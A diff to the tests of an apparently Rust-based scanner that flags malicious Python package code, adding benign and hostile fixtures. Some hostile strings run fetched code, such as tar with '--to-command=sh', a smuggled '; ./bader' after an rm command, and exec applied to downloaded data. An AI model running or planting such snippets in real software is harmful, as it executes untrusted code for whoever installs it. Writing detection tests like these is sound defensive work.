@@ -174,6 +174,11 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
          def fill(conn):\n    for i in range(0, 256):\n        os.dup2(conn.fileno(), i)\n\
          def child():\n    return subprocess.run(['python', '-c', 'pass'], stdout=subprocess.PIPE)\n\
          def listen():\n    return socket.create_server(('127.0.0.1', 0))\n",
+        // A gateway that connects to its JVM and, elsewhere, kills it with
+        // one command through `cmd /c`: the shell runs that command and exits.
+        "import socket, subprocess\n\
+         def connect(port):\n    s = socket.socket()\n    s.connect(('127.0.0.1', port))\n    return s\n\
+         def kill(proc):\n    subprocess.Popen(['cmd', '/c', 'taskkill', '/f', '/t', '/pid', str(proc.pid)])\n",
     ];
     for src in benign {
         let report = scan(&ManifestFacts::default(), &[Entry { path: "lib.py", bytes: src.as_bytes() }]);
@@ -601,6 +606,22 @@ fn a_download_and_a_process_count_together_only_where_they_meet() {
                      def fetch(url):\n    urllib.request.urlretrieve(url, 'cache.bin')\n\
                      def clone(wrap):\n    subprocess.check_call(['hg', 'clone', wrap.get('url')])\n";
     assert_eq!(level(namesakes).map(|l| l.0), Some(Severity::Medium), "{namesakes}");
+    // Unpacking or removing what was fetched starts none of it; starting
+    // what came out of the archive, or tar told to run a program, does.
+    let unpack = "import subprocess, urllib.request\ndef setup_bader():\n    \
+                  urllib.request.urlretrieve('https://example.org/bader.tar.gz', 'bader.tar.gz')\n    \
+                  subprocess.call(['/usr/bin/tar', '-zxf', 'bader.tar.gz'])\n    \
+                  subprocess.call(['cp', 'makefile.osx_' + fortran_command, 'makefile'])\n    \
+                  subprocess.call('rm bader.tar.gz', shell=True)\n";
+    assert_eq!(level(unpack), None, "{unpack}");
+    let run = format!("{unpack}    subprocess.call(['./bader', 'CHGCAR'])\n");
+    assert_eq!(level(&run).map(|l| l.0), Some(Severity::High), "{run}");
+    for hostile in [
+        unpack.replace("'-zxf', 'bader.tar.gz'", "'-xf', 'bader.tar.gz', '--to-command=sh'"),
+        unpack.replace("'rm bader.tar.gz'", "'rm bader.tar.gz; ./bader'"),
+    ] {
+        assert_eq!(level(&hostile).map(|l| l.0), Some(Severity::High), "{hostile}");
+    }
 }
 
 /// What exec and eval run is their first argument: a namespace that went
@@ -2014,6 +2035,20 @@ fn decoded_code_is_critical_when_the_package_carries_it_or_runs_it_unasked() {
     assert_eq!(severity_of("pkg/utils.py", &carried, "exec-decoded"), Some(Severity::Critical));
     let at_import = "import base64\ndef load(s):\n    exec(base64.b64decode(s))\nload(open('cfg').read())\n";
     assert_eq!(severity_of("pkg/utils.py", at_import, "exec-decoded"), Some(Severity::Critical));
+}
+
+/// The type `types.FunctionType` handed to a check (`isinstance(x,
+/// types.FunctionType)`) is compared against, not called: a download beside
+/// it runs nothing. `exec` handed over (`map(exec, ...)`) is applied.
+/// Written for the test.
+#[test]
+fn a_function_type_checked_against_runs_nothing() {
+    let check = "import types, requests\ndef download(url):\n    data = requests.get(url).json()\n    \
+                 if isinstance(data, types.FunctionType):\n        raise TypeError(url)\n    \
+                 assert_is_type(data, dict, types.FunctionType)\n    return data\n";
+    assert_eq!(severity_of("h2o/connection.py", check, "exec-downloaded"), None);
+    let applied = check.replace("isinstance(data, types.FunctionType)", "list(map(exec, [data]))");
+    assert!(severity_of("h2o/connection.py", &applied, "exec-downloaded").is_some_and(|s| s >= Severity::High));
 }
 
 /// One command line that downloads a file and starts it is download and
